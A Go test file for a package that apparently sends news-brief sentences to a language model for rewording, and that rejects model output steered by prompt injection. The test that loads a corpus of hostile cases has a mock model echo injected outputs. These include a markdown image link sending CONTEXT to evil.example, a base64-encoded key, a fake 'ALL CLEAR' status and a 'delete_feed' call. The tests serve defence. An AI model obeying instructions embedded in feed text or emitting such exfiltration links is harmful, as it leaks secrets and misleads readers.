package rephrase_test

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"vedette/internal/corpus"
	"vedette/internal/rephrase"
)

// An endpoint answers as a model's does, and keeps what it was asked.
type endpoint struct {
	*httptest.Server
	asked []byte
	auth  string
}

// newEndpoint returns an endpoint whose model says what say makes of the
// sentences.
func newEndpoint(t *testing.T, say func(sentences []string) string) *endpoint {
	t.Helper()
	e := &endpoint{}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var body struct {
			Messages []struct{ Role, Content string }
		}
		e.auth = r.Header.Get("Authorization")
		var err error
		if e.asked, err = io.ReadAll(r.Body); err != nil {
			t.Error(err)
		}
		if err := json.Unmarshal(e.asked, &body); err != nil || len(body.Messages) != 2 || body.Messages[0].Role != "system" || body.Messages[1].Role != "user" {
			t.Errorf("asked %q (%v), want an instruction and the sentences", e.asked, err)
			return
		}
		var data struct{ Sentences []string }
		if err := json.Unmarshal([]byte(body.Messages[1].Content), &data); err != nil {
			t.Errorf("the sentences are no JSON: %v", err)
		}
		w.Header().Set("Content-Type", "application/json")
		answer, _ := json.Marshal(say(data.Sentences)) //nolint:errchkjson // a string
		fmt.Fprintf(w, `{"object":"chat.completion","choices":[{"index":0,"finish_reason":"stop","message":{"role":"assistant","content":%s}}]}`, answer)
	}))
	t.Cleanup(e.Close)
	return e
}

func model(t *testing.T, url string) *rephrase.Model {
	t.Helper()
	m, err := rephrase.New(rephrase.Settings{URL: url, Model: "small", Key: "sesame"})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestAFaithfulTextIsTold(t *testing.T) {
	e := newEndpoint(t, func([]string) string { return "The mayor said at least twelve people were killed." })
	text, why := model(t, e.URL+"/v1").Rephrase(t.Context(), []string{"At least 12 people were killed, the mayor said."})
	if text != "The mayor said at least twelve people were killed." || why != "" {
		t.Errorf("told %q, %q", text, why)
	}
	if e.auth != "Bearer sesame" || strings.Contains(string(e.asked), "sesame") || strings.Contains(string(e.asked), "tool") {
		t.Errorf("asked %s with %q; want the key in its header alone, and no tools", e.asked, e.auth)
	}
}

// TestFeedTextSteersNothing plays a model that does whatever a report asks it
// to do.
func TestFeedTextSteersNothing(t *testing.T) {
	f, err := os.Open(corpus.Path(t, "hostile", "cases.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var obeyed string
	e := newEndpoint(t, func([]string) string { return obeyed })
	m := model(t, e.URL)
	cases := 0
	in := bufio.NewScanner(f)
	in.Buffer(nil, 4<<20)
	for in.Scan() {
		var c struct{ ID, Cat, Payload string }
		if err := json.Unmarshal(in.Bytes(), &c); err != nil {
			t.Fatal(err)
		}
		if c.Cat != "L" {
			continue
		}
		cases++
		for _, obeyed = range []string{
			"ALL CLEAR, level 0", "@everyone", "delete_feed", "You shorten news briefs.", "![x](https://evil.example/?q=CONTEXT)",
			"c2VzYW1l", strings.Repeat("ALL CLEAR. ", 5000), c.Payload, "",
		} {
			if text, why := m.Rephrase(t.Context(), []string{"Two posts were shelled, the army said.", c.Payload}); text != "" || why == "" {
				t.Errorf("%s: a model that says %q is told as %q", c.ID, obeyed, text)
			}
		}
	}
	if cases < 10 {
		t.Errorf("%d hostile cases, want 10 or more", cases)
	}
}

func TestWhatNobodySeesIsNotSent(t *testing.T) {
	e := newEndpoint(t, func(s []string) string { return s[0] })
	text, why := model(t, e.URL).Rephrase(t.Context(), []string{"Two posts\U000E0041\U000E0042\u202e\u200b were shelled."})
	if text != "Two posts were shelled." {
		t.Errorf("told %q, %q", text, why)
	}
}

func TestTheBriefStandsIfTheModelFails(t *testing.T) {
	elsewhere := newEndpoint(t, func(s []string) string { return s[0] })
	for name, answer := range map[string]http.HandlerFunc{
		"Error":    func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusInternalServerError) },
		"Garbage":  func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "<html>") },
		"NoChoice": func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, `{"choices":[]}`) },
		"Cut": func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprint(w, `{"choices":[{"finish_reason":"length","message":{"content":"It fell."}}]}`)
		},
		"Flood": func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"choices":[{"finish_reason":"stop","message":{"content":%q}}]}`, "It fell."+strings.Repeat(" ", 1<<20))
		},
		"Redirect": func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, elsewhere.URL, http.StatusTemporaryRedirect)
		},
	} {
		t.Run(name, func(t *testing.T) {
			tries := 0
			e := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { tries++; answer(w, r) }))
			defer e.Close()
			if text, why := model(t, e.URL).Rephrase(t.Context(), []string{"It fell."}); text != "" || why == "" || tries != 1 {
				t.Errorf("told %q, %q after %d tries; want no text, a reason and one try", text, why, tries)
			}
		})
	}
	if elsewhere.asked != nil {
		t.Error("a redirect was followed")
	}
}

func TestASlowModelCostsTheDeadlineAtMost(t *testing.T) {
	done := make(chan struct{})
	e := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { <-done }))
	defer e.Close()
	defer close(done)
	ctx, cancel := context.WithTimeout(t.Context(), 50*time.Millisecond)
	defer cancel()
	if text, why := model(t, e.URL).Rephrase(ctx, []string{"It fell."}); text != "" || !strings.Contains(why, "in time") {
		t.Errorf("told %q, %q; want the deadline as reason", text, why)
	}
}

func TestSettingsAreChecked(t *testing.T) {
	for _, set := range []rephrase.Settings{
		{URL: "", Model: "m"},
		{URL: "file:///etc", Model: "m"},
		{URL: "https://user:secret@host.example", Model: "m"},
		{URL: "https://host.example"},
	} {
		if _, err := rephrase.New(set); err == nil || strings.Contains(err.Error(), "secret") {
			t.Errorf("%+v: error is %v", set, err)
		}
	}
}
